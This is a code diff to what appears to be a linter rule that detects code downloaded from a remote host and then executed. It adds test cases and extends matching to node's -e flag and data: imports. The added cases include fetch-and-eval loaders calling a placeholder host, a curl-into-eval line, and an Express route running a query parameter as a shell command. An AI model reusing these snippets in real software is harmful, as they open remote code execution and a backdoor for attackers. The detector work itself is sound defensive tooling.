@@ -39,6 +39,26 @@ export default defineRule({
         code: `require('https').get('https://stage.invalid', res => {\n  let body = '';\n  res.on('data', chunk => { body += chunk; });\n  res.on('end', () => eval(body));\n});`,
       },
       {
+        title: 'what an error brings is, too',
+        code: `const axios = require('axios');\naxios.get('https://stage.invalid').then(() => {}).catch(error => new Function(error.response.data)());`,
+      },
+      {
+        title: 'another process of the same program is given it',
+        code: `const { spawn } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(text => spawn(process.execPath, ['-e', text], { detached: true }));`,
+      },
+      {
+        title: 'it is an address of its own, which is imported',
+        code: `fetch('https://stage.invalid').then(r => r.text()).then(text => import('data:text/javascript,' + text));`,
+      },
+      {
+        title: 'the shell fetches it',
+        code: `eval(require('child_process').execSync('curl -s https://stage.invalid/a.js').toString());`,
+      },
+      {
+        title: 'an application that is handed in gets a path that runs what it is asked',
+        code: `module.exports = app => app.get('/status', (q, s) => s.send(require('child_process').execSync(q.query.c)));`,
+      },
+      {
         title: 'a promise of one is',
         code: `const axios = require('axios');\naxios.get('https://stage.invalid').then(r => new Function('require', r.data)(require));`,
       },
@@ -97,6 +117,10 @@ export default defineRule({
         code: `process.on('message', ({ code }) => process.send(new Function(code)()));`,
       },
       {
+        title: 'another process is told what was fetched in its arguments',
+        code: `const { spawn } = require('child_process');\nfetch('https://releases.invalid/latest').then(r => r.text()).then(version => spawn(process.execPath, ['install.js', version]));`,
+      },
+      {
         title: 'a response is parsed',
         code: `fetch('https://api.invalid').then(r => r.json()).then(data => console.log(data));`,
       },
@@ -119,9 +143,7 @@ export default defineRule({
     for (const call of context.calls('execution', 'process')) {
       const isCommand = context.calls('process').includes(call);
       for (const arg of isCommand ? commandArguments(context, call) : codeArguments(context, call)) {
-        if (/^document\./.test(call.name)) continue;
-        // A loader imports addresses all day; a `data:` address is the code itself.
-        if (call.name === 'import' && !context.textsOf(arg).some(text => /^data:\w+\/javascript/i.test(text))) continue;
+        if ((call.name === 'import' && !holdsCode(context, arg)) || /^document\./.test(call.name)) continue;
         const label = context.labelsOf(arg).find(({ kind }) => kind === 'remote');
         if (!label) continue;
         // A server that only tests start serves nobody.
@@ -170,6 +192,7 @@ function messageOf(
   const { detail, origin } = label;
   if (name === 'Worker') return 'worker';
   if (name === 'import') return 'code';
+  if (context.namesOf(args[0] as Call['node']).some(one => /^process\.(?:execPath|argv0)$/.test(one))) return 'code';
   if (!isCommand)
     return isTemplate(context.textsOf(arg)) ? 'template' : isServed(detail) ? 'served' : kindOf(context, label);
   // `spawn` without a shell starts one program: an editor, a binary of the version that was asked for.
@@ -196,6 +219,9 @@ function commandArguments({ textsOf, textsWithin, namesOf }: FileContext, { args
   const texts = textsOf(program);
   // A path with a part that was fetched, a version say, is still a place the package chose.
   const fixed = texts.some(text => /^[^…]{2}/.test(text) || /[\\/]/.test(text));
+  // `spawn(process.execPath, ['-e', code])`.
+  if (words && namesOf(program).some(name => /^process\.(?:execPath|argv0)$/.test(name)))
+    return textsWithin(words).some(text => /^(?:-e|--eval|-p|--print)$/.test(text)) ? [words] : [];
   if (!fixed) return [program];
   return words &&
     texts.some(text =>
@@ -228,4 +254,9 @@ function isUnknown(text: string): boolean {
 /** Code with a blank filled in: `return function <name>() { … }`. The blank is seldom more than a name. */
 function isTemplate(texts: readonly string[]): boolean {
   return texts.length > 0 && texts.every(text => /^[^…]{12}/.test(text));
+}
+
+/** An address that holds the code itself. */
+function holdsCode({ textsOf }: FileContext, address: Call['node']): boolean {
+  return textsOf(address).some(text => text.startsWith('data:'));
 }
